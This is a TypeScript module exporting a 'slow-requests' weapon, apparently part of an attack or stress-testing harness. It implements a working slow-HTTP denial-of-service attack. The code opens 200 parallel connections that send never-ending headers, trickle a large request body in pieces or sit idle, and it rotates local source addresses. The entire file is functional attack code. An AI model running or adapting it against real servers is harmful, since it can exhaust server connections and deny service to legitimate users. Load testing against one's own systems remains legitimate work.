import { connect } from 'node:net';
import { again, inParallel, type Target, type Weapon } from '../target.js';
import { pause } from '../wire.js';

const LINES = 200;
const HOLD_MS = 30_000;
const PIECE_MS = 500;

/** Requests that never come to their end: headers without end, bodies piece by piece, and lines on which nobody speaks at all. */
export const slowRequests: Weapon = {
  name: 'slow-requests',
  attack: target => inParallel(LINES, number => again(target, 100, () => dawdle(target, WAYS[number % WAYS.length]!))),
};

interface Way {
  readonly begin: string;
  piece(): string;
}

const WAYS: readonly Way[] = [
  { begin: 'GET / HTTP/1.1\r\nHost: x\r\n', piece: () => `X-${Math.random()}: ${'y'.repeat(200)}\r\n` },
  {
    begin:
      'POST /api/matches HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 250000\r\n\r\n{"system":"',
    piece: () => 'z'.repeat(8_000),
  },
  { begin: '', piece: () => '' },
];

async function dawdle({ address, from, signal }: Target & object, way: Way): Promise<void> {
  const { hostname, port } = new URL(address);
  const line = connect({ host: hostname, port: Number(port), localAddress: from() });
  line.on('error', () => line.destroy());
  line.write(way.begin);
  for (let ms = 0; ms < HOLD_MS && !line.destroyed && !signal.aborted; ms += PIECE_MS) {
    const piece = way.piece();
    if (piece !== '') line.write(piece);
    await pause(PIECE_MS);
  }
  line.destroy();
}
